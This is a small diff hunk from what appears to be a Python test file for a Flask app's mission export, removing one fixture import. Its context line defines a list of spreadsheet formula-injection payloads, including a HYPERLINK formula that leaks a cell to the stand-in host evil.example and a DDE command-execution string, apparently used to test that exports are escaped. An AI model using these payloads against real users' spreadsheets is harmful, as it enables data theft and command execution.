@@ -8,7 +8,6 @@ from sqlalchemy import select
 
 from app.extensions import db
 from app.missions.models import Mission
-from tests.console.conftest import login_client  # noqa: F401 (fixture)
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0", "+1+1"]
 
